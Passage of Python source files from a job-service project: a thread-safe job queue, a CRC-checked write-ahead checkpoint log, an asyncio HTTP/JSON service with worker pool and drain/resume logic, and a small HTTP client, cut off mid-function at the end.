from ..errors import CampaignError
from .protocol import (
    JOB_QUEUED,
    JobSpec,
    JobStatus,
    job_id_for,
    valid_transition,
)


class JobRecord:
    """Mutable service-side state of one job (shared, lock-protected)."""

    def __init__(self, spec: JobSpec, job_id: str, sequence: int):
        self.spec = spec
        self.job_id = job_id
        self.sequence = sequence
        self.state = JOB_QUEUED
        self.units_total = 0
        self.units_done = 0
        self.error = ""
        #: Merged obs counters of completed units (progress streaming).
        self.counters: Dict[str, int] = {}
        #: The canonical result document text, once the job is done.
        self.result_text: Optional[str] = None
        #: Checkpoint-restored units: index -> (attempts, wire result).
        self.preloaded: Dict[int, Tuple[int, dict]] = {}

    def advance(self, target: str) -> None:
        """Move the state machine, rejecting illegal transitions loudly."""
        if not valid_transition(self.state, target):
            raise CampaignError(
                f"job {self.job_id}: illegal transition {self.state} -> {target}"
            )
        self.state = target

    def status(self) -> JobStatus:
        """A point-in-time :class:`JobStatus` snapshot of this record."""
        return JobStatus(
            job_id=self.job_id,
            state=self.state,
            kind=self.spec.kind,
            device=self.spec.device,
            seed=self.spec.seed,
            sequence=self.sequence,
            units_total=self.units_total,
            units_done=self.units_done,
            error=self.error,
            counters=dict(self.counters),
        )


class JobQueue:
    """Thread-safe FIFO of job records, idempotent on submission."""

    def __init__(self):
        self._lock = threading.Lock()
        self._jobs: Dict[str, JobRecord] = {}
        self._order: List[str] = []
        self._next_sequence = 0

    def submit(self, spec: JobSpec) -> Tuple[JobRecord, bool]:
        """Enqueue *spec*; returns ``(record, created)``.

        ``created`` is ``False`` when an identical spec was already
        submitted — the existing record (whatever its state) is returned,
        which is what makes duplicate submission harmless.
        """
        job_id = job_id_for(spec)
        with self._lock:
            existing = self._jobs.get(job_id)
            if existing is not None:
                return existing, False
            record = JobRecord(spec, job_id, self._next_sequence)
            self._next_sequence += 1
            self._jobs[job_id] = record
            self._order.append(job_id)
            return record, True

    def restore(self, record: JobRecord) -> None:
        """Re-register a checkpoint-restored record, keeping its ticket.

        Restored jobs carry their original sequence numbers; fresh
        submissions continue after the highest restored ticket so arrival
        order stays globally monotonic across restarts.
        """
        with self._lock:
            if record.job_id in self._jobs:
                return
            self._jobs[record.job_id] = record
            self._order.append(record.job_id)
            self._next_sequence = max(self._next_sequence, record.sequence + 1)

    def get(self, job_id: str) -> Optional[JobRecord]:
        """The record for *job_id*, or ``None``."""
        with self._lock:
            return self._jobs.get(job_id)

    def next_queued(self) -> Optional[JobRecord]:
        """The oldest record still in the queued state, or ``None``."""
        with self._lock:
            for job_id in self._order:
                if self._jobs[job_id].state == JOB_QUEUED:
                    return self._jobs[job_id]
            return None

    def depth(self) -> int:
        """How many jobs are waiting (queued, not yet running)."""
        with self._lock:
            return sum(
                1 for job_id in self._order if self._jobs[job_id].state == JOB_QUEUED
            )

    def all_records(self) -> List[JobRecord]:
        """Every record, in sequence (arrival) order."""
        with self._lock:
            return [self._jobs[job_id] for job_id in self._order]
