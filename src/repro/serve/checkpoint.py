"""The write-ahead checkpoint: kill the service, lose no completed unit.

A JSONL log, one record per line, each wrapped as
``{"crc": <crc32 of the record's canonical JSON>, "record": {...}}``.
Three record kinds:

* ``job`` — a job was accepted: its id, queue ticket and spec wire form;
* ``unit`` — one campaign unit completed: job id, unit index, attempt
  count and the worker's wire-form result (**completed units only** —
  a unit is either fully in the log or absent, never torn);
* ``done`` — a job reached a terminal state (``done``/``failed``).

Records are appended with flush + fsync *before* the service reports the
matching progress, so the log is always at least as advanced as any
observable status.  :func:`load_checkpoint` stops at the first torn or
corrupt line (a crash mid-append leaves at most one), making the loaded
prefix trustworthy without any repair step.  Replay folds the records
into per-job state: a job with a ``done`` record is terminal; any other
job re-enters the queue with its completed units preloaded, so a resumed
service re-runs only the missing shards — and because completed units
were stored in wire form, the merged output is byte-identical to a run
that was never interrupted.

Determinism: records are written in completion order, which for one job
is canonical unit order (the runner harvests in index order), and the
CRC covers the canonical ``dumps_wire`` serialisation — equal state,
equal bytes, equal file.
"""

from __future__ import annotations

import json
import os
import zlib
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

RECORD_JOB = "job"
RECORD_UNIT = "unit"
RECORD_DONE = "done"


def _canonical(record: dict) -> str:
    """Canonical JSON for CRC keying (sorted keys, no spaces)."""
    return json.dumps(record, sort_keys=True, separators=(",", ":"))


def record_crc(record: dict) -> int:
    """CRC-32 of a record's canonical serialisation."""
    return zlib.crc32(_canonical(record).encode("utf-8"))


def encode_line(record: dict) -> str:
    """One checkpoint line: the record wrapped with its CRC key."""
    return _canonical({"crc": record_crc(record), "record": record})


class CheckpointWriter:
    """Append-only writer; every append is flushed and fsynced.

    The fsync is the contract: once :meth:`append` returns, that record
    survives a SIGKILL.  The service therefore appends a unit record
    *before* counting the unit done anywhere a client could see it.
    """

    def __init__(self, path: str):
        self.path = path
        self._handle = open(path, "a", encoding="utf-8")

    def append(self, record: dict) -> None:
        """Durably append one record (flush + fsync before returning)."""
        self._handle.write(encode_line(record) + "\n")
        self._handle.flush()
        os.fsync(self._handle.fileno())

    def close(self) -> None:
        """Close the underlying file (idempotent)."""
        if self._handle is not None:
            self._handle.close()
            self._handle = None

    def __enter__(self) -> "CheckpointWriter":
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.close()


def load_checkpoint(path: str) -> List[dict]:
    """The trustworthy record prefix of a checkpoint file.

    Stops at the first line that is not valid JSON, lacks the wrapper
    shape, or fails its CRC — everything before a torn tail is intact by
    construction (appends are ordered and fsynced).  A missing file is an
    empty checkpoint.
    """
    if not os.path.exists(path):
        return []
    records: List[dict] = []
    with open(path, "r", encoding="utf-8") as handle:
        for line in handle:
            line = line.strip()
            if not line:
                break
            try:
                wrapper = json.loads(line)
            except json.JSONDecodeError:
                break
            if not isinstance(wrapper, dict) or "crc" not in wrapper:
                break
            record = wrapper.get("record")
            if not isinstance(record, dict) or wrapper["crc"] != record_crc(record):
                break
            records.append(record)
    return records


@dataclass
class JobCheckpoint:
    """Replayed state of one job: its spec, ticket and completed units."""

    job_id: str
    sequence: int
    spec_wire: dict
    #: unit index -> (attempts, wire-form result); completed units only.
    units: Dict[int, Tuple[int, dict]] = field(default_factory=dict)
    #: Terminal state from a ``done`` record, or ``None`` if unfinished.
    final_state: Optional[str] = None
    error: str = ""


def replay_checkpoint(records: List[dict]) -> List[JobCheckpoint]:
    """Fold a record list into per-job state, in first-seen (queue) order.

    Duplicate ``job`` records (one per service restart) collapse onto the
    first; duplicate ``unit`` records for one index are last-wins (they
    are identical by determinism anyway).  Records for unknown job ids —
    impossible under ordered appends, conceivable after truncation — are
    ignored rather than fatal.
    """
    jobs: Dict[str, JobCheckpoint] = {}
    order: List[str] = []
    for record in records:
        kind = record.get("kind")
        job_id = record.get("job_id")
        if kind == RECORD_JOB and job_id not in jobs:
            jobs[job_id] = JobCheckpoint(
                job_id=job_id,
                sequence=record["sequence"],
                spec_wire=record["spec"],
            )
            order.append(job_id)
        elif kind == RECORD_UNIT and job_id in jobs:
            jobs[job_id].units[record["index"]] = (
                record["attempts"],
                record["result"],
            )
        elif kind == RECORD_DONE and job_id in jobs:
            jobs[job_id].final_state = record["state"]
            jobs[job_id].error = record.get("error", "")
    return [jobs[job_id] for job_id in order]


def job_record(job_id: str, sequence: int, spec_wire: dict) -> dict:
    """Build a ``job`` record (acceptance)."""
    return {
        "kind": RECORD_JOB,
        "job_id": job_id,
        "sequence": sequence,
        "spec": spec_wire,
    }


def unit_record(job_id: str, index: int, attempts: int, result: dict) -> dict:
    """Build a ``unit`` record (one completed campaign unit)."""
    return {
        "kind": RECORD_UNIT,
        "job_id": job_id,
        "index": index,
        "attempts": attempts,
        "result": result,
    }


def done_record(job_id: str, state: str, error: str = "") -> dict:
    """Build a ``done`` record (terminal job state)."""
    return {"kind": RECORD_DONE, "job_id": job_id, "state": state, "error": error}
