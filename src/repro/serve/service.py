"""The asyncio job service: HTTP/JSON front, worker-pool back.

Pure stdlib: a hand-rolled HTTP/1.1 exchange over
``asyncio.start_server`` (one request per connection, ``Connection:
close``) — no web framework, matching the repo's no-new-dependencies
rule.  The interesting machinery is behind the socket:

* a single **runner task** drains the :class:`~repro.serve.jobs.JobQueue`
  in ticket order, one job at a time, so execution order is a pure
  function of arrival order;
* each job's units are submitted to a persistent
  :class:`~repro.core.parallel.WorkerPool` up front and harvested **in
  canonical index order** (mirroring the batch executor's accounting
  exactly), so the merged document is byte-identical to an in-process
  run;
* every completed unit is appended to the write-ahead checkpoint
  (:mod:`repro.serve.checkpoint`) *before* it is observable as progress,
  so a SIGKILL can lose at most in-flight work, never completed work;
* SIGTERM/SIGINT trigger a graceful drain: queued-but-unstarted units
  are cancelled, in-flight units finish and are checkpointed, the
  interrupted job collapses back to ``queued``, and the next service
  pointed at the same checkpoint resumes mid-trial-set with
  byte-identical output.

Routes::

    POST /jobs                submit a JobSpec (wire v6); idempotent
    GET  /jobs                all job statuses, in ticket order
    GET  /jobs/<id>           one job's status
    GET  /jobs/<id>/result    the canonical result document (bytes)
    GET  /jobs/<id>/progress  merged obs counters of completed units
    GET  /metrics             the service's own obs snapshot
    GET  /healthz             liveness probe

:class:`ServiceThread` hosts the whole service on a background thread
with an ephemeral port — the black-box test harness talks to it over
real sockets, and its ``stop(drain=False)`` simulates a hard kill.
"""

from __future__ import annotations

import asyncio
import json
import threading
from typing import Dict, Optional, Tuple

from ..core.parallel import (
    FAILURE_CRASH,
    FAILURE_EXCEPTION,
    UnitFailure,
    UnitOutcome,
    WorkerPool,
)
from ..core.resultio import (
    dumps_wire,
    jobspec_from_wire,
    jobspec_to_wire,
    jobstatus_to_wire,
)
from ..obs.export import snapshot_to_document
from ..obs.metrics import MetricsCollector
from ..radio.clock import wall_monotonic
from .checkpoint import (
    CheckpointWriter,
    done_record,
    job_record,
    load_checkpoint,
    replay_checkpoint,
    unit_record,
)
from .jobs import JobQueue, JobRecord
from .protocol import JOB_DONE, JOB_FAILED, JOB_QUEUED, JOB_RUNNING, SpecError
from .results import (
    document_from_outcomes,
    dumps_result_document,
    rehydrate_unit_result,
    spec_units,
)

_REASONS = {
    200: "OK",
    201: "Created",
    400: "Bad Request",
    404: "Not Found",
    405: "Method Not Allowed",
    409: "Conflict",
    500: "Internal Server Error",
}

_JSON = "application/json"


def _error_body(kind: str, **fields) -> str:
    """A structured error document: ``{"error": {"kind": ..., ...}}``."""
    payload = {"kind": kind}
    for key in sorted(fields):
        payload[key] = fields[key]
    return json.dumps({"error": payload}, sort_keys=True)


class ZCoverService:
    """One service instance: queue, pool, checkpoint, HTTP front."""

    def __init__(
        self,
        host: str = "127.0.0.1",
        port: int = 0,
        workers: int = 1,
        checkpoint_path: Optional[str] = None,
        retries: int = 1,
    ):
        self.host = host
        self.port = port  # rewritten with the bound port after start()
        self.workers = workers
        self.retries = retries
        self.checkpoint_path = checkpoint_path
        self.queue = JobQueue()
        self.collector = MetricsCollector()
        self.pool: Optional[WorkerPool] = None
        self._writer: Optional[CheckpointWriter] = None
        self._server: Optional[asyncio.AbstractServer] = None
        self._runner_task: Optional[asyncio.Task] = None
        self._wake: Optional[asyncio.Event] = None
        self._shutdown: Optional[asyncio.Event] = None
        self._draining = False
        self._aborted = False

    # -- lifecycle -------------------------------------------------------------

    async def start(self) -> None:
        """Bind the socket, restore the checkpoint, start the runner."""
        self._wake = asyncio.Event()
        self._shutdown = asyncio.Event()
        self.pool = WorkerPool(self.workers)
        self._restore_checkpoint()
        if self.checkpoint_path is not None:
            self._writer = CheckpointWriter(self.checkpoint_path)
        self._server = await asyncio.start_server(
            self._handle_client, host=self.host, port=self.port
        )
        self.port = self._server.sockets[0].getsockname()[1]
        self._runner_task = asyncio.get_running_loop().create_task(self._runner())

    async def wait_finished(self) -> None:
        """Block until shutdown is requested, then tear everything down."""
        assert self._shutdown is not None
        await self._shutdown.wait()
        if self._runner_task is not None:
            try:
                await self._runner_task
            except asyncio.CancelledError:
                pass
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()
        if self.pool is not None:
            self.pool.drain(wait=not self._aborted)
        if self._writer is not None:
            self._writer.close()

    def request_shutdown(self) -> None:
        """Graceful drain: finish in-flight units, checkpoint, exit."""
        self._draining = True
        if self._wake is not None:
            self._wake.set()
        if self._shutdown is not None:
            self._shutdown.set()

    def abort(self) -> None:
        """Simulated kill: cancel the runner mid-unit, no drain.

        The checkpoint is still intact — appends are fsynced before
        progress is visible — which is exactly what the kill-and-resume
        test exercises.
        """
        self._aborted = True
        self._draining = True
        if self._runner_task is not None:
            self._runner_task.cancel()
        if self._shutdown is not None:
            self._shutdown.set()

    # -- checkpoint restore ----------------------------------------------------

    def _restore_checkpoint(self) -> None:
        """Replay the checkpoint file into queue state (if configured)."""
        if self.checkpoint_path is None:
            return
        for entry in replay_checkpoint(load_checkpoint(self.checkpoint_path)):
            spec = jobspec_from_wire(entry.spec_wire)
            record = JobRecord(spec, entry.job_id, entry.sequence)
            record.preloaded = dict(entry.units)
            record.units_total = len(spec_units(spec))
            if entry.final_state in (JOB_DONE, JOB_FAILED):
                self._restore_terminal(record, entry.final_state, entry.error)
            else:
                self.collector.inc("serve.jobs.resumed")
            self.queue.restore(record)

    def _restore_terminal(self, record: JobRecord, state: str, error: str) -> None:
        """Rebuild a finished job's result from its checkpointed units.

        A ``done`` job has every unit in the log, so the document can be
        rebuilt byte-identically; if any unit is missing (possible only
        after external truncation) the job is demoted back to ``queued``
        instead of serving a wrong result.
        """
        if state == JOB_FAILED:
            record.state = state
            record.error = error
            return
        outcomes = self._preloaded_outcomes(record)
        if any(outcome.result is None for outcome in outcomes):
            return  # stays queued; the runner re-runs the missing shards
        record.result_text = dumps_result_document(
            document_from_outcomes(record.spec, outcomes)
        )
        record.units_done = len(outcomes)
        record.state = state

    def _preloaded_outcomes(self, record: JobRecord) -> list:
        """Outcomes in canonical order, filled from checkpointed units."""
        outcomes = [UnitOutcome(unit=unit) for unit in spec_units(record.spec)]
        for index in sorted(record.preloaded):
            if 0 <= index < len(outcomes):
                attempts, wire = record.preloaded[index]
                outcome = outcomes[index]
                outcome.result = rehydrate_unit_result(outcome.unit, wire)
                outcome.attempts = attempts
        return outcomes

    # -- the runner ------------------------------------------------------------

    async def _runner(self) -> None:
        """Drain the queue in ticket order, one job at a time."""
        assert self._wake is not None
        while not self._draining:
            record = self.queue.next_queued()
            if record is None:
                try:
                    await asyncio.wait_for(self._wake.wait(), timeout=0.1)
                except asyncio.TimeoutError:
                    continue
                self._wake.clear()
                continue
            record.advance(JOB_RUNNING)
            self.collector.inc("serve.jobs.started")
            started = wall_monotonic()
            try:
                await self._execute_job(record)
            except asyncio.CancelledError:
                raise
            except Exception as exc:
                self._finish(record, JOB_FAILED, f"{type(exc).__name__}: {exc}")
            self.collector.record_span(
                f"serve.job.{record.spec.kind}",
                int((wall_monotonic() - started) * 1e6),
            )

    async def _execute_job(self, record: JobRecord) -> None:
        """Run one job: submit units, harvest in order, checkpoint each.

        Mirrors the batch executor's accounting exactly (attempts counted
        at submission, harvest in canonical index order, retries in
        isolated single-worker pools) so the merged document matches an
        in-process run byte for byte.
        """
        outcomes = self._preloaded_outcomes(record)
        record.units_total = len(outcomes)
        record.units_done = 0
        record.counters = {}
        for outcome in outcomes:
            if outcome.result is not None:
                self._count_done(record, outcome)
        pending = {
            index: outcome
            for index, outcome in enumerate(outcomes)
            if outcome.result is None
        }
        futures: Dict[int, object] = {}
        assert self.pool is not None
        for index in sorted(pending):
            pending[index].attempts += 1
            futures[index] = self.pool.submit(pending[index].unit)
        for index in sorted(futures):
            if self._draining:
                for future in futures.values():
                    future.cancel()
            await self._harvest_unit(record, index, futures[index], pending)
        if any(o.result is None and o.failure is None for o in outcomes):
            # Drained mid-job: completed units are checkpointed; the job
            # re-queues so the next service life resumes where we stopped.
            record.advance(JOB_QUEUED)
            return
        self._finish_with_document(record, outcomes)

    async def _harvest_unit(
        self,
        record: JobRecord,
        index: int,
        future,
        pending: Dict[int, UnitOutcome],
    ) -> None:
        """Await one unit's future; retry, then checkpoint or fail it."""
        outcome = pending.get(index)
        if outcome is None or getattr(future, "cancelled", lambda: False)():
            return  # cancelled by the drain before it ever ran
        wire = await self._await_unit(outcome, future)
        retry = 0
        while wire is None and retry < self.retries and not self._draining:
            retry += 1
            outcome.attempts += 1
            wire = await self._await_unit(outcome, self._retry_future(outcome))
        if wire is None:
            self.collector.inc("serve.units.failed")
            return
        outcome.result = rehydrate_unit_result(outcome.unit, wire)
        outcome.failure = None
        del pending[index]
        if self._writer is not None:
            self._writer.append(
                unit_record(record.job_id, index, outcome.attempts, wire)
            )
        self.collector.inc("serve.units.completed")
        self._count_done(record, outcome)

    async def _await_unit(self, outcome: UnitOutcome, future) -> Optional[dict]:
        """Await a unit future; on failure, record it and respawn the pool.

        Distinguishes the runner task being cancelled (abrupt abort —
        re-raised) from the future being cancelled by a drain (the unit
        simply stays unfinished).
        """
        try:
            return await asyncio.wrap_future(future)
        except asyncio.CancelledError:
            if future.cancelled():
                return None
            raise
        except BaseException as exc:
            crashed = type(exc).__name__ in ("BrokenProcessPool", "BrokenExecutor")
            if crashed:
                self._respawn_pool()
            outcome.failure = UnitFailure(
                unit=outcome.unit,
                category=FAILURE_CRASH if crashed else FAILURE_EXCEPTION,
                error=f"{type(exc).__name__}: {exc}",
                attempts=outcome.attempts,
            )
            return None

    def _retry_future(self, outcome: UnitOutcome):
        """A fresh future for one retry, isolated from the shared pool.

        Mirrors the batch executor's retry isolation: a dedicated
        single-worker pool per attempt, torn down as soon as the future
        resolves, so a persistently crashing unit can never poison the
        service's shared pool.
        """
        solo = WorkerPool(workers=1)
        future = solo.submit(outcome.unit)
        future.add_done_callback(lambda _done: solo.drain(wait=False))
        return future

    def _respawn_pool(self) -> None:
        """Replace a broken process pool so later jobs stay healthy."""
        assert self.pool is not None
        self.pool.drain(wait=False)
        self.pool = WorkerPool(self.workers)
        self.collector.inc("serve.pool.respawns")

    def _count_done(self, record: JobRecord, outcome: UnitOutcome) -> None:
        """Fold one completed unit into the job's progress counters."""
        record.units_done += 1
        metrics = getattr(outcome.result, "metrics", None)
        if metrics is not None:
            for key, value in metrics.counters.items():
                record.counters[key] = record.counters.get(key, 0) + value

    def _finish_with_document(self, record: JobRecord, outcomes: list) -> None:
        """Build the canonical result document and finish the job."""
        try:
            record.result_text = dumps_result_document(
                document_from_outcomes(record.spec, outcomes)
            )
        except Exception as exc:
            self._finish(record, JOB_FAILED, f"{type(exc).__name__}: {exc}")
            return
        self._finish(record, JOB_DONE, "")

    def _finish(self, record: JobRecord, state: str, error: str) -> None:
        """Advance to a terminal state and write the ``done`` record."""
        record.error = error
        record.advance(state)
        if self._writer is not None:
            self._writer.append(done_record(record.job_id, state, error))
        self.collector.inc(
            "serve.jobs.completed" if state == JOB_DONE else "serve.jobs.failed"
        )

    # -- the HTTP front --------------------------------------------------------

    async def _handle_client(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        """One request/response exchange (HTTP/1.1, connection: close)."""
        try:
            status, body, ctype = await self._handle_request(reader)
        except Exception:
            status, body, ctype = 500, _error_body("internal"), _JSON
        payload = body.encode("utf-8")
        head = (
            f"HTTP/1.1 {status} {_REASONS.get(status, 'OK')}\r\n"
            f"Content-Type: {ctype}\r\n"
            f"Content-Length: {len(payload)}\r\n"
            "Connection: close\r\n\r\n"
        )
        self.collector.inc(f"serve.http.{status}")
        try:
            writer.write(head.encode("latin-1") + payload)
            await writer.drain()
            writer.close()
            await writer.wait_closed()
        except (ConnectionError, OSError):
            pass  # client went away mid-response; nothing to clean up

    async def _handle_request(
        self, reader: asyncio.StreamReader
    ) -> Tuple[int, str, str]:
        """Parse one request off the stream and route it."""
        request_line = await reader.readline()
        parts = request_line.decode("latin-1", "replace").split()
        if len(parts) != 3:
            return 400, _error_body("request-line"), _JSON
        method, target = parts[0].upper(), parts[1]
        length = 0
        while True:
            header = await reader.readline()
            if header in (b"\r\n", b"\n", b""):
                break
            name, _, value = header.decode("latin-1", "replace").partition(":")
            if name.strip().lower() == "content-length":
                try:
                    length = int(value.strip())
                except ValueError:
                    return 400, _error_body("content-length"), _JSON
        body = await reader.readexactly(length) if length > 0 else b""
        path = target.partition("?")[0]
        return self._route(method, path, body)

    def _route(self, method: str, path: str, body: bytes) -> Tuple[int, str, str]:
        """Dispatch one parsed request to its handler."""
        if path == "/jobs" and method == "POST":
            return self._post_job(body)
        if path == "/jobs" and method == "GET":
            return self._get_jobs()
        if path == "/metrics" and method == "GET":
            return self._get_metrics()
        if path == "/healthz" and method == "GET":
            body_text = json.dumps({"ok": True, "queue_depth": self.queue.depth()})
            return 200, body_text, _JSON
        if path.startswith("/jobs/"):
            return self._route_job(method, path)
        return 404, _error_body("not-found", path=path), _JSON

    def _route_job(self, method: str, path: str) -> Tuple[int, str, str]:
        """Routes under ``/jobs/<id>`` (status, result, progress)."""
        parts = path.strip("/").split("/")
        if method != "GET" or len(parts) not in (2, 3):
            return 405, _error_body("method", path=path), _JSON
        record = self.queue.get(parts[1])
        if record is None:
            return 404, _error_body("unknown-job", job_id=parts[1]), _JSON
        if len(parts) == 2:
            return 200, dumps_wire(jobstatus_to_wire(record.status())), _JSON
        if parts[2] == "result":
            return self._get_result(record)
        if parts[2] == "progress":
            return self._get_progress(record)
        return 404, _error_body("not-found", path=path), _JSON

    def _post_job(self, body: bytes) -> Tuple[int, str, str]:
        """``POST /jobs``: validate, enqueue (idempotently), checkpoint."""
        from ..core.resultio import WireVersionError

        try:
            data = json.loads(body.decode("utf-8"))
        except (UnicodeDecodeError, json.JSONDecodeError) as exc:
            return 400, _error_body("body", reason=str(exc)), _JSON
        try:
            spec = jobspec_from_wire(data)
        except WireVersionError as exc:
            return (
                400,
                _error_body(
                    "wire-version", found=exc.found, expected=exc.expected
                ),
                _JSON,
            )
        except (KeyError, TypeError) as exc:
            return 400, _error_body("layout", reason=str(exc)), _JSON
        try:
            from .protocol import validate_spec

            validate_spec(spec)
        except SpecError as exc:
            return 400, _error_body("spec", field=exc.field, reason=exc.reason), _JSON
        record, created = self.queue.submit(spec)
        if created:
            record.units_total = len(spec_units(spec))
            if self._writer is not None:
                self._writer.append(
                    job_record(record.job_id, record.sequence, jobspec_to_wire(spec))
                )
            self.collector.inc("serve.jobs.accepted")
            self.collector.gauge_max("serve.queue.depth", self.queue.depth())
            if self._wake is not None:
                self._wake.set()
        else:
            self.collector.inc("serve.jobs.duplicate")
        status = 201 if created else 200
        return status, dumps_wire(jobstatus_to_wire(record.status())), _JSON

    def _get_jobs(self) -> Tuple[int, str, str]:
        """``GET /jobs``: every status, in ticket order."""
        statuses = [
            jobstatus_to_wire(record.status())
            for record in self.queue.all_records()
        ]
        return 200, json.dumps({"jobs": statuses}, sort_keys=True), _JSON

    def _get_result(self, record: JobRecord) -> Tuple[int, str, str]:
        """``GET /jobs/<id>/result``: the canonical document, or 409."""
        if record.state == JOB_DONE and record.result_text is not None:
            return 200, record.result_text, _JSON
        if record.state == JOB_FAILED:
            return 409, _error_body("job-failed", error=record.error), _JSON
        return 409, _error_body("not-finished", state=record.state), _JSON

    def _get_progress(self, record: JobRecord) -> Tuple[int, str, str]:
        """``GET /jobs/<id>/progress``: merged counters of done units."""
        doc = {
            "schema": "zcover-serve-progress",
            "schema_version": 1,
            "job_id": record.job_id,
            "state": record.state,
            "units_done": record.units_done,
            "units_total": record.units_total,
            "counters": {k: record.counters[k] for k in sorted(record.counters)},
        }
        return 200, json.dumps(doc, sort_keys=True), _JSON

    def _get_metrics(self) -> Tuple[int, str, str]:
        """``GET /metrics``: the service's own obs snapshot document."""
        doc = snapshot_to_document(
            self.collector.snapshot(), meta={"kind": "serve"}
        )
        return 200, json.dumps(doc, sort_keys=True), _JSON


def serve_forever(
    host: str = "127.0.0.1",
    port: int = 8377,
    workers: int = 1,
    checkpoint_path: Optional[str] = None,
    retries: int = 1,
) -> None:
    """Run a service until SIGTERM/SIGINT, draining gracefully.

    This is the ``zcover serve`` entry point.  The bound address is
    printed once the socket is listening, so scripts (the CI smoke job)
    can wait for readiness on stdout.
    """
    import signal

    async def _main() -> None:
        service = ZCoverService(
            host=host,
            port=port,
            workers=workers,
            checkpoint_path=checkpoint_path,
            retries=retries,
        )
        await service.start()
        loop = asyncio.get_running_loop()
        for signum in (signal.SIGTERM, signal.SIGINT):
            try:
                loop.add_signal_handler(signum, service.request_shutdown)
            except (NotImplementedError, RuntimeError):
                pass  # platform without loop signal support
        print(f"zcover serve listening on {service.host}:{service.port}", flush=True)
        await service.wait_finished()

    asyncio.run(_main())


class ServiceThread:
    """Host a service on a background thread (the test harness's handle).

    ``start()`` returns once the socket is bound (``port`` is then the
    real ephemeral port).  ``stop(drain=True)`` is the graceful path;
    ``stop(drain=False)`` aborts the runner mid-unit — the closest
    in-process equivalent of ``kill -9`` that still lets the test reuse
    the checkpoint file for a resume.
    """

    def __init__(self, **kwargs):
        self.service = ZCoverService(**kwargs)
        self._thread: Optional[threading.Thread] = None
        self._loop: Optional[asyncio.AbstractEventLoop] = None

    def start(self) -> "ServiceThread":
        """Boot the service; blocks until the socket is listening."""
        ready = threading.Event()

        def _main() -> None:
            loop = asyncio.new_event_loop()
            self._loop = loop
            asyncio.set_event_loop(loop)
            try:
                loop.run_until_complete(self.service.start())
                ready.set()
                loop.run_until_complete(self.service.wait_finished())
            finally:
                ready.set()  # unblock start() even on a boot failure
                loop.close()

        self._thread = threading.Thread(target=_main, daemon=True)
        self._thread.start()
        ready.wait(timeout=30)
        return self

    @property
    def port(self) -> int:
        """The bound (possibly ephemeral) port."""
        return self.service.port

    def stop(self, drain: bool = True, timeout: float = 60.0) -> None:
        """Stop the service: graceful drain, or an abrupt simulated kill."""
        if self._loop is None or self._thread is None:
            return
        target = self.service.request_shutdown if drain else self.service.abort
        try:
            self._loop.call_soon_threadsafe(target)
        except RuntimeError:
            pass  # loop already closed
        self._thread.join(timeout=timeout)
