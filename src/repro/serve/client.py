"""Stdlib HTTP client for the job service (the ``zcover submit`` back end).

Thin by design: one :class:`http.client.HTTPConnection` per request
(the service answers with ``Connection: close`` anyway), wire-v6 specs
out, wire-v6 statuses back, raw bytes for result documents — the client
never re-serialises a result, because re-encoding is exactly how a
byte-identity contract gets silently broken.

All waiting is wall-clock polling via the sanctioned clock owner
(:func:`repro.radio.clock.wall_sleep` / ``wall_monotonic``): the service
has no push channel, and a poll loop keeps the client dependency-free.
"""

from __future__ import annotations

import http.client
import json
from typing import Optional, Tuple

from ..core.resultio import (
    dumps_wire,
    jobspec_to_wire,
    jobstatus_from_wire,
)
from ..errors import CampaignError
from ..radio.clock import wall_monotonic, wall_sleep
from .protocol import JOB_DONE, JOB_FAILED, JobSpec, JobStatus


class ServeClientError(CampaignError):
    """A request the service rejected (or could not be reached).

    ``status`` is the HTTP status code (0 when the connection itself
    failed) and ``payload`` the parsed error document, when there was one.
    """

    def __init__(self, message: str, status: int = 0, payload: Optional[dict] = None):
        super().__init__(message)
        self.status = status
        self.payload = payload or {}


class ServeClient:
    """Talk to one service instance at ``host:port``."""

    def __init__(self, host: str = "127.0.0.1", port: int = 8377, timeout: float = 60.0):
        self.host = host
        self.port = port
        self.timeout = timeout

    def _request(
        self, method: str, path: str, body: Optional[bytes] = None
    ) -> Tuple[int, bytes]:
        """One request/response exchange; returns ``(status, body)``."""
        connection = http.client.HTTPConnection(
            self.host, self.port, timeout=self.timeout
        )
        try:
            headers = {"Content-Type": "application/json"} if body else {}
            connection.request(method, path, body=body, headers=headers)
            response = connection.getresponse()
            return response.status, response.read()
        except (ConnectionError, OSError) as exc:
            raise ServeClientError(
                f"{method} {path}: cannot reach {self.host}:{self.port}: {exc}"
            ) from exc
        finally:
            connection.close()

    def _error(self, method: str, path: str, status: int, body: bytes) -> ServeClientError:
        """Build a structured error from a non-2xx response."""
        payload: dict = {}
        try:
            payload = json.loads(body.decode("utf-8"))
        except (UnicodeDecodeError, json.JSONDecodeError):
            pass
        detail = payload.get("error", payload)
        return ServeClientError(
            f"{method} {path}: HTTP {status}: {detail}", status=status, payload=payload
        )

    def submit(self, spec: JobSpec) -> JobStatus:
        """POST a spec; returns the (possibly pre-existing) job's status."""
        body = dumps_wire(jobspec_to_wire(spec)).encode("utf-8")
        status, payload = self._request("POST", "/jobs", body)
        if status not in (200, 201):
            raise self._error("POST", "/jobs", status, payload)
        return jobstatus_from_wire(json.loads(payload.decode("utf-8")))

    def status(self, job_id: str) -> JobStatus:
        """GET one job's current status."""
        path = f"/jobs/{job_id}"
        status, payload = self._request("GET", path)
        if status != 200:
            raise self._error("GET", path, status, payload)
        return jobstatus_from_wire(json.loads(payload.decode("utf-8")))

    def result_bytes(self, job_id: str) -> bytes:
        """GET the canonical result document, verbatim bytes."""
        path = f"/jobs/{job_id}/result"
        status, payload = self._request("GET", path)
        if status != 200:
            raise self._error("GET", path, status, payload)
        return payload

    def progress(self, job_id: str) -> dict:
        """GET the merged obs counters of a job's completed units."""
        path = f"/jobs/{job_id}/progress"
        status, payload = self._request("GET", path)
        if status != 200:
            raise self._error("GET", path, status, payload)
        return json.loads(payload.decode("utf-8"))

    def healthz(self) -> dict:
        """GET the liveness document (also the readiness probe)."""
        status, payload = self._request("GET", "/healthz")
        if status != 200:
            raise self._error("GET", "/healthz", status, payload)
        return json.loads(payload.decode("utf-8"))

    def wait(
        self, job_id: str, timeout: float = 600.0, poll: float = 0.05
    ) -> JobStatus:
        """Poll until the job is terminal; returns its final status.

        Raises :class:`ServeClientError` if the deadline passes first —
        the job keeps running server-side, so a later ``wait`` can still
        succeed.
        """
        deadline = wall_monotonic() + timeout
        while True:
            current = self.status(job_id)
            if current.state in (JOB_DONE, JOB_FAILED):
                return current
